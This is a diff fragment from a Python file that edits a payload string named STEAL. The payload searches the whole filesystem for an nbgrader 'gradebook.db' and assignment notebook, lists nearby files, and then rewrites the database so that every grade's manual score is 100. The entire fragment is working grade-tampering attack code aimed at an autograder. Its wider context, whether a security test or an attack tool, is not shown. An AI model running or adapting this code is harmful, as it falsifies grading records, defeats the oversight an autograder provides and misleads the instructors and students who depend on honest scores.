@@ -85,7 +85,7 @@ STEAL = """
 import glob, os, sqlite3
 seen = [os.path.join(r, f) for r, _, fs in os.walk("/") for f in fs if f in ("gradebook.db", "ps1.ipynb")]
 seen = [path for path in seen if "site-packages" not in path]  # nbgrader ships an example course
-print("SEEN", seen, glob.glob("../../../*"))
+print("SEEN", seen, glob.glob("../../../*.db"))
 for path in ("%s/gradebook.db", "../../../gradebook.db"):
     try:
         book = sqlite3.connect(path); book.execute("update grade set manual_score = 100"); book.commit()
